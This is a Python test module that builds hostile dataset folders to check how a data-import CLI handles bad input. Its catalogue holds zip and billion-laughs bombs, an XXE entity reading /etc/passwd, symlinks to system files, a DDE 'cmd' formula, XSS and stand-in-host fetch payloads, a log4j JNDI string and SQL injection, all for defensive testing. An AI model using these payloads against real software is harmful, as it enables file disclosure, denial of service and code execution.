"""A generator of hostile dataset folders: what a careless clerk or an attacker would feed
``desist validate`` and ``desist import``.

Nothing here is committed as data: every case is a small function that writes one dataset
folder (the valid sample dataset of :mod:`tests.ingest.conftest` with something broken,
oversized or malicious) into a temporary directory. :func:`cases` lists them all;
``tests/ingest/test_hostile_corpus.py`` runs each through the real CLI.

Each case says what the product must do with it:

- ``REFUSED``: exit status 2 from both commands, the database unchanged;
- ``ACCEPTED``: valid input (however odd), imported with exit status 0;
- ``WARNED``: imported, with a warning printed;
- ``EITHER``: 0 or 2 are both acceptable (the contract does not decide), never 1.

``heavy`` cases need much memory or time if handled badly (zip bombs, huge cells,
thousands of columns, endless files): they run in a subprocess with a memory limit and a
timeout, so that a regression fails the test instead of the machine.

Run ``python -m tests.ingest.hostile_corpus --list`` to see every case, or
``python -m tests.ingest.hostile_corpus CASE DB`` to run one through the CLI (the test
does that for the heavy ones) and print the outcome as JSON.
"""

from __future__ import annotations

import io
import json
import os
import random
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pandas as pd

from tests.ingest.conftest import VALID, write_dataset

#: Environment variable with the address-space limit (bytes) of a case run by ``_main``.
ADDRESS_SPACE_VARIABLE = "DESIST_CORPUS_ADDRESS_SPACE"

REFUSED = "refused"
ACCEPTED = "accepted"
WARNED = "warned"
EITHER = "either"

RELEASES_HEADER, RELEASES_ROWS = VALID["releases"]


@dataclass(frozen=True)
class Case:
    """One hostile dataset folder and what the product must do with it."""

    name: str
    build: Callable[[Path], None]  # writes the dataset into an existing, empty folder
    expect: str = EITHER
    heavy: bool = False
    #: The issue-12 item whose fix this expectation relies on ("" for behaviour that held).
    needs: str = ""
    #: Lower-case text the refusal (stderr) must contain, when it is worth checking.
    mentions: str | None = None


# ------------------------------------------------------------------------ writers


def _valid(folder: Path, **overrides) -> None:
    write_dataset(folder, **overrides)


def _with_releases_bytes(data: bytes, name: str = "releases.csv") -> Callable[[Path], None]:
    """The valid dataset with ``releases`` replaced by raw bytes."""

    def build(folder: Path) -> None:
        _valid(folder, releases=None)
        (folder / name).write_bytes(data)

    return build


def _releases_text(header, rows, *, sep=",", newline="\n") -> str:
    lines = [sep.join(header), *(sep.join(r) for r in rows)]
    return newline.join(lines) + newline


def _valid_releases_text(**kwargs) -> str:
    return _releases_text(RELEASES_HEADER, RELEASES_ROWS, **kwargs)


def _cell(row: int, column: str, value: str) -> Callable[[Path], None]:
    """The valid dataset with one releases cell replaced (written by the csv module)."""

    def build(folder: Path) -> None:
        rows = [list(r) for r in RELEASES_ROWS]
        rows[row][RELEASES_HEADER.index(column)] = value
        _valid(folder, releases=(RELEASES_HEADER, rows))

    return build


def _table_cell(table: str, row: int, column: str, value: str) -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        header, rows = VALID[table]
        rows = [list(r) for r in rows]
        rows[row][header.index(column)] = value
        _valid(folder, **{table: (header, rows)})

    return build


def _extra_column(name: str, values=None) -> Callable[[Path], None]:
    """The valid dataset with one more releases column (a covariate, or worse)."""

    def build(folder: Path) -> None:
        cells = values or [str(i) for i in range(len(RELEASES_ROWS))]
        rows = [(*r, cells[i]) for i, r in enumerate(RELEASES_ROWS)]
        _valid(folder, releases=((*RELEASES_HEADER, name), rows))

    return build


def _release_ids(first: str, second: str) -> Callable[[Path], None]:
    """Two releases whose ids look alike (the first two rows; different people)."""

    def build(folder: Path) -> None:
        rows = [list(r) for r in RELEASES_ROWS]
        rows[0][0], rows[1][0] = first, second
        _valid(folder, releases=(RELEASES_HEADER, rows), participation=None, events=None)

    return build


def _wide(columns: int, rows: int = 20) -> Callable[[Path], None]:
    """``columns`` numeric covariates beside the required columns."""

    def build(folder: Path) -> None:
        _valid(folder, releases=None)
        head = ",".join(RELEASES_HEADER[:5])
        extra = ",".join(f"cov_{i}" for i in range(columns))
        lines = [f"{head},{extra}"]
        values = ",".join("1" for _ in range(columns))
        for i in range(rows):
            lines.append(f"W{i},WP{i},2020-01-10,North,2023-12-31,{values}")
        (folder / "releases.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")

    return build


def _many_rows(rows: int, *, blank: bool = False) -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        _valid(folder, releases=None, participation=None, events=None)
        with (folder / "releases.csv").open("w", encoding="utf-8") as handle:
            handle.write(",".join(RELEASES_HEADER[:5]) + "\n")
            handle.write("R1,P1,2020-01-10,North,2023-12-31\n")
            if blank:
                handle.write("\n" * rows)
            else:
                for start in range(0, rows, 100_000):
                    chunk = range(start, min(start + 100_000, rows))
                    handle.write("".join(f"M{i},MP{i},2020-01-10,North,2023-12-31\n"
                                         for i in chunk))

    return build


def _parquet(frame: pd.DataFrame) -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        _valid(folder, releases=None)
        frame.to_parquet(folder / "releases.parquet", index=False)

    return build


def _valid_frame() -> pd.DataFrame:
    return pd.DataFrame([list(r) for r in RELEASES_ROWS], columns=list(RELEASES_HEADER))


# ------------------------------------------------------------------------ XLSX


_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="releases" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
_SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{doctype}'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_TAIL = "</sheetData></worksheet>"


def _inline_row(number: int, values) -> str:
    cells = "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in values)
    return f'<row r="{number}">{cells}</row>'


def _write_xlsx(path: Path, sheet_chunks, *, doctype: str = "") -> None:
    """A minimal workbook whose one sheet is written from an iterable of XML chunks."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _ROOT_RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(_SHEET_HEAD.format(doctype=doctype).encode())
            for chunk in sheet_chunks:
                sheet.write(chunk.encode() if isinstance(chunk, str) else chunk)
            sheet.write(_SHEET_TAIL.encode())


def _valid_sheet_rows():
    yield _inline_row(1, RELEASES_HEADER)
    for number, row in enumerate(RELEASES_ROWS, start=2):
        yield _inline_row(number, row)


def _xlsx(sheet_chunks_factory, *, doctype: str = "") -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        _valid(folder, releases=None)
        _write_xlsx(folder / "releases.xlsx", sheet_chunks_factory(), doctype=doctype)

    return build


def _xlsx_with_cell(value: str) -> Callable[[Path], None]:
    def rows():
        yield _inline_row(1, RELEASES_HEADER)
        for number, row in enumerate(RELEASES_ROWS, start=2):
            cells = list(row)
            if number == 2:
                cells[RELEASES_HEADER.index("facility")] = value
            yield _inline_row(number, cells)

    return _xlsx(rows)


def _zip_bomb(megabytes: int) -> Callable[[Path], None]:
    """A workbook whose sheet is the valid rows followed by ``megabytes`` of whitespace."""
    block = b" " * (1 << 20)

    def rows():
        yield from _valid_sheet_rows()
        for _ in range(megabytes):
            yield block

    return _xlsx(rows)


def _xlsx_rows(count: int) -> Callable[[Path], None]:
    """The valid rows, then ``count`` empty ``<row>`` elements (2M rows: 95 s once)."""

    def rows():
        yield from _valid_sheet_rows()
        start = len(RELEASES_ROWS) + 2
        for first in range(start, start + count, 50_000):
            yield "".join(f'<row r="{n}"/>' for n in range(first, min(first + 50_000,
                                                                        start + count)))

    return _xlsx(rows)


_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;'
    '&lol;&lol;&lol;">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(2, 10))
    + "]>"
)


def _xlsx_entity(doctype: str, value: str) -> Callable[[Path], None]:
    return _xlsx(lambda: iter([_inline_row(1, RELEASES_HEADER),
                               _inline_row(2, (*RELEASES_ROWS[0][:3], value,
                                               *RELEASES_ROWS[0][4:]))]), doctype=doctype)


def _xlsx_raw(data: bytes) -> Callable[[Path], None]:
    return _with_releases_bytes(data, "releases.xlsx")


def _zip_of(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _openpyxl_workbook(rows, *, formula=False) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(list(row))
    if formula:
        sheet["D2"] = "=1+1"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# ------------------------------------------------------------------------ the file system


def _symlink_releases(target_factory: Callable[[Path], Path]) -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        _valid(folder, releases=None)
        (folder / "releases.csv").symlink_to(target_factory(folder))

    return build


def _outside_file(folder: Path) -> Path:
    outside = folder.parent / f"{folder.name}-outside.csv"
    outside.write_text(_valid_releases_text(), encoding="utf-8")
    return outside


def _symlink_loop(folder: Path) -> None:
    _valid(folder, releases=None)
    (folder / "a.csv").symlink_to(folder / "releases.csv")
    (folder / "releases.csv").symlink_to(folder / "a.csv")


def _fifo(folder: Path) -> None:
    _valid(folder, releases=None)
    os.mkfifo(folder / "releases.csv")


def _folder_named_releases(folder: Path) -> None:
    _valid(folder, releases=None)
    (folder / "releases.csv").mkdir()
    (folder / "releases.csv" / "releases.csv").write_text(_valid_releases_text())


def _two_releases_files(folder: Path) -> None:
    _valid(folder)
    _valid_frame().to_parquet(folder / "releases.parquet", index=False)


def _upper_case_name(folder: Path) -> None:
    _valid(folder, releases=None)
    (folder / "RELEASES.CSV").write_text(_valid_releases_text(), encoding="utf-8")


def _junk_beside(folder: Path) -> None:
    _valid(folder)
    (folder / ".hidden.csv").write_bytes(os.urandom(256))
    (folder / "notes.txt").write_text("=cmd|' /C calc'!A0")
    (folder / "releases.csv~").write_bytes(b"\x00" * 100)


def _nested_dataset_folder(folder: Path) -> None:
    _valid(folder / "inner")
    _valid(folder)


def _only_events(folder: Path) -> None:
    _valid(folder, releases=None, programs=None, participation=None)


# ------------------------------------------------------------------------ the catalogue


def _encodings() -> list[Case]:
    text = _valid_releases_text().replace("North", "Niš-Čačak")
    return [
        Case("utf8 with BOM", _with_releases_bytes(b"\xef\xbb\xbf" + text.encode()), ACCEPTED),
        Case("utf8 double BOM", _with_releases_bytes(b"\xef\xbb\xbf" * 2 + text.encode())),
        Case("utf16-le with BOM", _with_releases_bytes(text.encode("utf-16")), EITHER),
        Case("utf16-le without BOM", _with_releases_bytes(text.encode("utf-16-le")), EITHER),
        Case("utf16-be", _with_releases_bytes(text.encode("utf-16-be")), EITHER),
        Case("utf32", _with_releases_bytes(text.encode("utf-32")), REFUSED),
        Case("latin-1", _with_releases_bytes(
            _valid_releases_text().replace("North", "Sainte-Hélène").encode("latin-1")),
            REFUSED, mentions="utf-8"),
        Case("cp1252 smart quotes", _with_releases_bytes(
            _valid_releases_text().replace("North", "\u201cNorth\u201d").encode("cp1252")),
            REFUSED),
        Case("invalid utf8 byte", _with_releases_bytes(text.encode().replace(b"South",
                                                                            b"So\xffth")),
             REFUSED),
        Case("overlong utf8", _with_releases_bytes(text.encode().replace(b"South",
                                                                        b"So\xc0\xafth")),
             REFUSED),
        Case("utf8 surrogate", _with_releases_bytes(text.encode().replace(b"South",
                                                                         b"So\xed\xa0\x80th")),
             REFUSED),
        Case("cp1251 cyrillic", _with_releases_bytes(
            _valid_releases_text().replace("North", "Север").replace("ÄÖ", "AO")
            .encode("cp1251")), REFUSED),
        Case("utf8 cyrillic and arabic", _with_releases_bytes(
            _valid_releases_text().replace("North", "Север").replace("South", "الجنوب")
            .encode()), ACCEPTED),
    ]


def _structure() -> list[Case]:
    header = ",".join(RELEASES_HEADER)
    row = ",".join(RELEASES_ROWS[0])
    return [
        Case("empty releases file", _with_releases_bytes(b""), REFUSED),
        Case("header only", _with_releases_bytes((header + "\n").encode()), REFUSED),
        Case("only newlines", _with_releases_bytes(b"\n\n\n\n"), REFUSED),
        Case("only commas", _with_releases_bytes(b",,,,\n,,,,\n"), REFUSED),
        Case("missing required column", _with_releases_bytes(
            _releases_text(RELEASES_HEADER[1:], [r[1:] for r in RELEASES_ROWS]).encode()),
            REFUSED),
        Case("duplicated column", _with_releases_bytes(
            _releases_text((*RELEASES_HEADER, "sex"), [(*r, "M") for r in RELEASES_ROWS])
            .encode()), REFUSED),
        Case("duplicated after normalising", _with_releases_bytes(
            _releases_text((*RELEASES_HEADER, " Release_ID "), [(*r, "X") for r in
                                                                 RELEASES_ROWS]).encode()),
            REFUSED),
        Case("empty column name", _with_releases_bytes(
            _releases_text((*RELEASES_HEADER, ""), [(*r, "x") for r in RELEASES_ROWS])
            .encode()), REFUSED),
        Case("too many fields", _with_releases_bytes(
            (_valid_releases_text() + row + ",extra,more\n").encode()), REFUSED),
        Case("too few fields", _with_releases_bytes(
            (_valid_releases_text() + "R9,P9\n").encode()), REFUSED),
        Case("unterminated quote", _with_releases_bytes(
            (_valid_releases_text() + 'R9,"P9,2020-01-01\n').encode()), REFUSED),
        Case("quote inside a field", _with_releases_bytes(
            (_valid_releases_text() + 'R9,P"9,2020-01-10,North,2023-12-31,M,1,1,x,1\n')
            .encode()), EITHER),
        Case("deep quoting", _with_releases_bytes(
            (_valid_releases_text() + 'R9,P9,2020-01-10,"' + '""' * 4000
             + '",2023-12-31,M,1,1,x,1\n').encode()), EITHER),
        Case("quoted newline in a cell", _with_releases_bytes(
            (_valid_releases_text() + 'R9,P9,2020-01-10,"North\nGate",2023-12-31,M,1,1,x,1\n')
            .encode()), EITHER),
        Case("CR-only line endings", _with_releases_bytes(
            _valid_releases_text(newline="\r").encode()), EITHER),
        Case("CRLF line endings", _with_releases_bytes(
            _valid_releases_text(newline="\r\n").encode()), ACCEPTED),
        Case("mixed line endings", _with_releases_bytes(
            _valid_releases_text().replace("\n", "\r\n", 2).encode()), EITHER),
        Case("semicolon separated", _with_releases_bytes(
            _valid_releases_text(sep=";").encode()), EITHER),
        Case("tab separated", _with_releases_bytes(_valid_releases_text(sep="\t").encode()),
             EITHER),
        Case("blank lines between rows", _with_releases_bytes(
            _valid_releases_text().replace("\n", "\n\n").encode()), EITHER),
        Case("no final newline", _with_releases_bytes(_valid_releases_text()[:-1].encode()),
             ACCEPTED),
        Case("header in capitals and spaces", _with_releases_bytes(_releases_text(
            [f" {h.upper()} " for h in RELEASES_HEADER], RELEASES_ROWS).encode()), ACCEPTED),
        Case("zero-width space in a header", _with_releases_bytes(_releases_text(
            ("release\u200b_id", *RELEASES_HEADER[1:]), RELEASES_ROWS).encode()), EITHER),
        Case("whitespace-only cells", _cell(0, "facility", "   \t "), REFUSED),
        Case("binary junk", _with_releases_bytes(random.Random(1).randbytes(20_000)), REFUSED),
        Case("PNG named releases.csv", _with_releases_bytes(
            b"\x89PNG\r\n\x1a\n" + random.Random(2).randbytes(3000)), REFUSED),
        Case("gzip named releases.csv", _with_releases_bytes(
            b"\x1f\x8b\x08\x00" + random.Random(3).randbytes(3000)), REFUSED),
        Case("NUL bytes at the start", _with_releases_bytes(b"\x00" * 64 +
                                                             _valid_releases_text().encode()),
             REFUSED),
        Case("NUL after 4 KiB", _nul_after_4k, REFUSED, needs="6 (NUL and control characters)",
             mentions="line"),
        Case("a million-character header name", _extra_column("c" * 1_000_000), EITHER),
    ]


def _nul_after_4k(folder: Path) -> None:
    rows = [list(r) for r in RELEASES_ROWS]
    rows[0][RELEASES_HEADER.index("education_level")] = "x" * 5000
    rows[3][RELEASES_HEADER.index("facility")] = "North\x00gate Prison"
    _valid(folder, releases=(RELEASES_HEADER, rows))


def _control_characters() -> list[Case]:
    needs = "6 (NUL and control characters)"
    payloads = {
        "NUL in a cell": "North\x00gate",
        "bell and backspace": "Nor\x07th\x08",
        "ANSI colour escape": "\x1b[31mRED\x1b[0m",
        "ANSI clear screen": "\x1b[2J\x1b[H",
        "OSC terminal title": "\x1b]0;pwned\x07",
        "DEL character": "North\x7f",
        "C1 CSI": "North\x9b31m",
        "vertical tab and form feed": "No\x0brth\x0cgate",
        "NEL line break": "North\x85gate",
    }
    return [Case(name, _cell(0, "facility", value), REFUSED, needs=needs)
            for name, value in payloads.items()]


def _injection() -> list[Case]:
    # Valid text: stored and later shown as text (never Markdown, HTML or formulas).
    payloads = {
        "formula cmd": "=cmd|' /C calc'!A0",
        "formula hyperlink": '=HYPERLINK("http://other-host/x","click")',
        "formula plus": "+1+1",
        "formula at": "@SUM(1)",
        "markdown image": "![t](http://OTHER-HOST/x.png)",
        "markdown link": "[click](javascript:alert(1))",
        "html script": "<script>alert(1)</script>",
        "html img onerror": '<img src=x onerror="fetch(\'http://other-host\')">',
        "plotly bold": "<b>bold</b><br>line",
        "plotly link": '<a href="http://other-host">x</a>',
        "latex": "$\\frac{1}{0}$",
        "template": "{{7*7}}${7*7}",
        "log4j": "${jndi:ldap://other-host/a}",
        "sql in a value": "'); DROP TABLE releases; --",
        "right-to-left override": "North\u202egnp.exe",
        "emoji and combining marks": "Nörth 🏛️ Z̷a̴l̵g̶o",
        "percent format": "%s%s%s%n",
    }
    cases = [Case(f"{name} as facility", _cell(0, "facility", value), ACCEPTED)
             for name, value in payloads.items()]
    cases += [Case(f"{name} as programme name", _table_cell("programs", 0, "name", value),
                   ACCEPTED) for name, value in list(payloads.items())[:8]]
    cases.append(Case("injection as covariate value", _cell(0, "education_level",
                                                           "<b>=1+1</b>"), ACCEPTED))
    return cases


def _identifiers() -> list[Case]:
    # Direct identifiers are refused by name, in the five languages (issue 12, item 6).
    older = ["name", "passport_no", "jmbg", "prenom", "date_of_birth"]
    newer = ["mother_name", "father_name", "nickname", "ime_oca", "prezime", "отчество",
             "اسم_الأب", "ime_majke", "nom_de_la_mere", "surnom"]
    cases = [Case(f"identifier column {n}", _extra_column(n, ["a", "b", "c", "d"]), REFUSED)
             for n in older]
    cases += [Case(f"identifier column {n}", _extra_column(n, ["a", "b", "c", "d"]), REFUSED,
                   needs="6 (identifier names in five languages)") for n in newer]
    return cases


def _column_names() -> list[Case]:
    return [
        # Values unlike the row positions: DuckDB's own rowid then disagrees with them.
        Case("covariate named rowid", _extra_column("rowid", ["9", "7", "5", "3"]), EITHER,
             needs="6 (reserved names)", mentions="rowid"),
        Case("covariate named batch_id", _extra_column("batch_id"), REFUSED),
        Case("covariate named like a table", _extra_column("release_follow_up"), EITHER),
        Case("covariate with a double quote", _extra_column('risk"; DROP TABLE releases; --'),
             EITHER),
        Case("covariate named select", _extra_column("select"), EITHER),
        Case("covariate with spaces and accents", _extra_column("niveau d'éducation"), EITHER),
        Case("covariate of mixed number and text", _extra_column(
            "mixed", ["1", "two", "3", "4"]), EITHER),
        Case("covariate with a huge number", _extra_column("big", ["1e308", "-1e308", "1",
                                                                   "2"]), EITHER),
        Case("covariate infinity and nan", _extra_column("weird", ["inf", "-inf", "nan",
                                                                   "NaN"]), EITHER),
    ]


def _values() -> list[Case]:
    dates = ["0001-01-01", "9999-12-31", "10000-01-01", "1900-02-29", "2020-02-30",
             "-0001-01-01", "2020-1-1", "43831", "2020/01/10", "10.01.2020",
             "2020-01-10T00:00:00", "1677-09-21", "2262-04-12", "١٤٤٠-٠١-٠١"]
    cases = [Case(f"release date {d}", _cell(0, "release_date", d), REFUSED) for d in dates]
    cases += [
        Case("follow-up end 2200", _cell(0, "follow_up_end", "2200-01-01"), REFUSED),
        Case("follow-up before release", _cell(0, "follow_up_end", "2019-01-01"), REFUSED),
    ]
    numbers = ["1e308", "inf", "nan", "-5", "0x10", "1_000", "１２", "٣٠", "2.5",
               "99999999999999999999"]
    cases += [Case(f"age {n}", _cell(0, "age_at_release", n), EITHER) for n in numbers]
    cases += [
        Case("sex lower case", _cell(0, "sex", "m"), EITHER),
        Case("sex fullwidth", _cell(0, "sex", "Ｍ"), REFUSED),
        Case("empty person id", _cell(0, "person_id", ""), REFUSED),
        Case("person id of zero-width spaces", _cell(0, "person_id", "\u200b\u200b"), REFUSED,
             needs="6 (zero-width characters)"),
        Case("a 100k-character person id", _cell(0, "person_id", "P" * 100_000), REFUSED,
             needs="5 (cell length)"),
        Case("duplicate release ids", _release_ids("R1", "R1"), REFUSED),
        Case("release ids differing by a zero-width space",
             _release_ids("R1", "R\u200b1"), REFUSED, needs="6 (NFC, zero-width)"),
        Case("release ids in NFC and NFD", _release_ids("RÉ1", "RE\u03011"), REFUSED,
             needs="6 (NFC)"),
        Case("release ids with a Cyrillic look-alike", _release_ids("PR1", "\u0420R1"), WARNED,
             needs="6 (look-alike warning)"),
        Case("unknown event type", _table_cell("events", 0, "event_type", "abduction"),
             REFUSED),
        Case("event of an unknown person", _table_cell("events", 0, "person_id", "NOBODY"),
             REFUSED),
        Case("participation in an unknown programme",
             _table_cell("participation", 0, "program_id", "NOPE"), REFUSED),
        Case("negative programme cost", _table_cell("programs", 0, "cost_per_participant",
                                                    "-300"), EITHER),
    ]
    return cases


def _files() -> list[Case]:
    return [
        Case("symlink outside the folder", _symlink_releases(_outside_file), REFUSED,
             needs="6 (symlinks)", mentions="outside"),
        Case("symlink to /etc/passwd", _symlink_releases(lambda f: Path("/etc/passwd")),
             REFUSED),
        Case("symlink to /dev/zero", _symlink_releases(lambda f: Path("/dev/zero")), REFUSED,
             heavy=True, needs="6 (symlinks)"),
        Case("symlink to /dev/urandom", _symlink_releases(lambda f: Path("/dev/urandom")),
             REFUSED, heavy=True, needs="6 (symlinks)"),
        Case("symlink loop", _symlink_loop, REFUSED),
        Case("dangling symlink", _symlink_releases(lambda f: f / "gone.csv"), REFUSED),
        Case("named pipe as releases.csv", _fifo, REFUSED, heavy=True),
        Case("folder named releases.csv", _folder_named_releases, REFUSED),
        Case("releases as csv and parquet", _two_releases_files, REFUSED),
        Case("upper-case file name", _upper_case_name, EITHER),
        Case("junk files beside the tables", _junk_beside, ACCEPTED),
        Case("a dataset folder inside the dataset", _nested_dataset_folder, ACCEPTED),
        Case("no releases file", _only_events, REFUSED),
    ]


def _parquet_cases() -> list[Case]:
    frame = _valid_frame()
    typed = frame.assign(age_at_release=frame["age_at_release"].astype(int),
                         release_date=pd.to_datetime(frame["release_date"]))
    nested = frame.assign(extra=[{"a": 1}] * len(frame))
    binary = frame.assign(blob=[b"\x00\xff"] * len(frame))
    return [
        Case("parquet valid", _parquet(frame), ACCEPTED),
        Case("parquet typed columns", _parquet(typed), EITHER),
        Case("parquet nested column", _parquet(nested), EITHER),
        Case("parquet binary column", _parquet(binary), EITHER),
        Case("parquet no rows", _parquet(frame.iloc[:0]), REFUSED),
        Case("parquet truncated", _truncated_parquet, REFUSED),
        Case("csv named .parquet", _with_releases_bytes(_valid_releases_text().encode(),
                                                        "releases.parquet"), REFUSED),
        Case("parquet with 5,000 columns", _parquet(pd.DataFrame(
            np.ones((20, 5000)), columns=[f"c{i}" for i in range(5000)]).assign(
            **{c: frame[c].tolist() * 5 for c in RELEASES_HEADER[:5]})), REFUSED, heavy=True,
             needs="5 (columns per file)"),
    ]


def _truncated_parquet(folder: Path) -> None:
    _valid(folder, releases=None)
    buffer = io.BytesIO()
    _valid_frame().to_parquet(buffer, index=False)
    (folder / "releases.parquet").write_bytes(buffer.getvalue()[:-40])


def _xlsx_cases() -> list[Case]:
    rows = [RELEASES_HEADER, *RELEASES_ROWS]
    return [
        Case("xlsx valid", _xlsx(_valid_sheet_rows), ACCEPTED),
        Case("xlsx from openpyxl", _xlsx_raw(_openpyxl_workbook(rows)), ACCEPTED),
        Case("xlsx with a formula cell", _xlsx_raw(_openpyxl_workbook(rows, formula=True)),
             EITHER),
        Case("xlsx that is not a zip", _xlsx_raw(b"PK\x03\x04" + os.urandom(2000)), REFUSED),
        Case("xlsx that is csv", _xlsx_raw(_valid_releases_text().encode()), REFUSED),
        Case("xlsx zip of junk", _xlsx_raw(_zip_of({"junk.bin": os.urandom(3000)})), REFUSED),
        Case("xlsx encrypted (OLE)", _xlsx_raw(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" +
                                                bytes(4000)), REFUSED),
        Case("xlsx with control characters", _xlsx_with_cell("North&#27;[31m"), EITHER),
        Case("xlsx with html in a cell", _xlsx_with_cell("&lt;b&gt;North&lt;/b&gt;"),
             ACCEPTED),
        Case("xlsx external entity", _xlsx_entity(
            '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;"), REFUSED),
        Case("xlsx billion laughs", _xlsx_entity(_LAUGHS, "&lol9;"), REFUSED, heavy=True),
        Case("xlsx 1 GiB whitespace bomb", _zip_bomb(1024), REFUSED, heavy=True,
             needs="5 (xlsx uncompressed size)", mentions="uncompressed"),
        Case("xlsx with 2M rows", _xlsx_rows(2_000_000), REFUSED, heavy=True,
             needs="5 (xlsx rows)", mentions="rows"),
    ]


def _sizes() -> list[Case]:
    return [
        Case("5,000 columns", _wide(5000), REFUSED, heavy=True, needs="5 (columns per file)",
             mentions="columns"),
        Case("20,000 columns", _wide(20_000), REFUSED, heavy=True,
             needs="5 (columns per file)", mentions="columns"),
        Case("600 columns", _wide(600), REFUSED, needs="5 (columns per file)"),
        Case("a 20 MB cell", _cell(0, "facility", "N" * 20_000_000), REFUSED, heavy=True,
             needs="5 (cell length)", mentions="too long"),
        Case("a 20,000-character cell", _cell(0, "facility", "N" * 20_000), REFUSED,
             needs="5 (cell length)"),
        Case("a million blank lines", _many_rows(1_000_000, blank=True), EITHER, heavy=True),
    ]


def cases() -> list[Case]:
    """Every hostile case, with unique names."""
    found = [*_encodings(), *_structure(), *_control_characters(), *_injection(),
             *_identifiers(), *_column_names(), *_values(), *_files(), *_parquet_cases(),
             *_xlsx_cases(), *_sizes()]
    names = [c.name for c in found]
    duplicates = {n for n in names if names.count(n) > 1}
    if duplicates:
        raise ValueError(f"case names must be unique: {sorted(duplicates)}")
    return found


def case_named(name: str) -> Case:
    return next(c for c in cases() if c.name == name)


def build(case: Case, folder: Path) -> Path:
    """Write ``case``'s dataset into ``folder`` (created); return it."""
    folder.mkdir(parents=True)
    case.build(folder)
    return folder


# ------------------------------------------------------------------------ running one case


def run_cli(dataset: Path, db: Path) -> dict[str, dict]:
    """``desist validate`` then ``desist import`` (in this process): exit code and output."""
    from click.testing import CliRunner

    from analysis.cli import main

    outcome = {}
    for command, args in (("validate", ["validate", str(dataset), "--db", str(db)]),
                          ("import", ["import", str(dataset), "--db", str(db),
                                      "--no-stored-views"])):
        result = CliRunner().invoke(main, args)
        outcome[command] = {
            "exit_code": result.exit_code,
            "stdout": result.stdout[-4000:],
            "stderr": result.stderr[-4000:],
            "escaped": None if result.exception is None or isinstance(result.exception,
                                                                      SystemExit)
            else f"{type(result.exception).__name__}: {result.exception}",
        }
    return outcome


def _main(argv: list[str]) -> int:
    if argv == ["--list"]:
        for case in cases():
            flags = " [heavy]" if case.heavy else ""
            print(f"{case.expect:9} {case.name}{flags}")
        return 0
    name, db = argv
    import resource
    import tempfile

    # Set here rather than by the parent (preexec_fn is unsafe in a threaded parent).
    limit = int(os.environ.get(ADDRESS_SPACE_VARIABLE, "0"))
    if limit:
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    with tempfile.TemporaryDirectory() as scratch:
        dataset = build(case_named(name), Path(scratch) / "dataset")
        print(json.dumps(run_cli(dataset, Path(db))))
    return 0


if __name__ == "__main__":
    sys.exit(_main(sys.argv[1:]))
